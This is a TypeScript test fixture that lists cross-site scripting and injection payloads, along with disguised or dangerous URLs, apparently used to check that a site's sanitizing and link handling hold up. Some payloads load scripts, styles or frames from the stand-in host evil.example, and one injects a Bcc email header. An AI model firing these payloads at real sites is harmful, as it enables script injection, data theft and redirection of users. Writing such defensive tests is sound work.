/** In every payload: where it is text it can be seen, and where it became mark-up an element has it as an attribute. */
export const MARK = 'data-injected';
/** Nothing may ever be asked of it. */
const EVIL = 'https://evil.example';

/** Markup, URLs and what breaks out of quotes, comments and tags. `alert` opens a dialog where a script runs. */
export const PAYLOADS: readonly string[] = [
  `<script ${MARK}>alert(1)</script>`,
  `<script ${MARK} src=${EVIL}/x.js></script>`,
  `<img ${MARK} src=${EVIL}/x.png onerror=alert(2)>`,
  `<img ${MARK} src=x onerror=alert(3)>`,
  `<svg ${MARK} onload=alert(4)>`,
  `<svg><script ${MARK}>alert(5)</script></svg>`,
  `<iframe ${MARK} srcdoc="<script>parent.alert(6)</script>"></iframe>`,
  `<iframe ${MARK} src=${EVIL}></iframe>`,
  `<a ${MARK} href="javascript:alert(7)">open</a>`,
  `<a ${MARK} href="java&#9;script:alert(8)">open</a>`,
  `<style ${MARK}>@import "${EVIL}/x.css"; *{background:url(${EVIL}/x.png)}</style>`,
  `<link ${MARK} rel=stylesheet href=${EVIL}/x.css>`,
  `<link ${MARK} rel=prefetch href=${EVIL}/x>`,
  `<meta ${MARK} http-equiv=refresh content="0;url=${EVIL}">`,
  `<base ${MARK} href=${EVIL}/>`,
  `<form ${MARK} action=${EVIL}><button autofocus onfocus=alert(9)>x</button></form>`,
  `<input ${MARK} autofocus onfocus=alert(10)>`,
  `<details ${MARK} open ontoggle=alert(11)>x</details>`,
  `<object ${MARK} data="data:text/html,<script>alert(12)</script>"></object>`,
  `<video ${MARK} poster=${EVIL}/x.png><source onerror=alert(13)></video>`,
  `"><img ${MARK} src=x onerror=alert(14)>`,
  `' onmouseover='alert(15)' ${MARK}='`,
  `" autofocus onfocus="alert(16)" ${MARK}="`,
  `</title><script ${MARK}>alert(17)</script>`,
  `</textarea><script ${MARK}>alert(18)</script>`,
  `</script><script ${MARK}>alert(19)</script>`,
  `</style><img ${MARK} src=x onerror=alert(20)>`,
  `--><img ${MARK} src=x onerror=alert(21)><!--`,
  `]]><img ${MARK} src=x onerror=alert(22)>`,
  `&lt;img ${MARK} src=x onerror=alert(23)&gt;`,
  `&#60;img ${MARK} src=x onerror=alert(24)&#62;`,
  `\\u003cimg ${MARK} src=x onerror=alert(25)\\u003e`,
  `<math><mtext><table><mglyph><style><img ${MARK} src=x onerror=alert(26)>`,
  `<noscript><p title="</noscript><img ${MARK} src=x onerror=alert(27)>">`,
  `{{constructor.constructor('alert(28)')()}} ${MARK}`,
  `![${MARK}](${EVIL}/x.png) [x](javascript:alert(29))`,
  `javascript:alert(30)//${MARK}`,
  `data:text/html,<script ${MARK}>alert(31)</script>`,
  `//evil.example/${MARK}`,
  `\u202e<img ${MARK} src=x onerror=alert(32)>`,
  `x\r\nBcc: everybody@evil.example\r\n\r\n<img ${MARK} src=x onerror=alert(33)>`,
];

/** Addresses that must never become links, in a file of notices and in the query of a page. */
export const ODD_ADDRESSES: readonly string[] = [
  `javascript:alert(40)//${MARK}`,
  `JaVaScRiPt:alert(41)//${MARK}`,
  `\u0001javascript:alert(42)//${MARK}`,
  `java\tscript:alert(43)//${MARK}`,
  `data:text/html,<script ${MARK}>alert(44)</script>`,
  `vbscript:alert(45)//${MARK}`,
  `//evil.example/${MARK}`,
  `https://sam.gov@evil.example/${MARK}`,
];
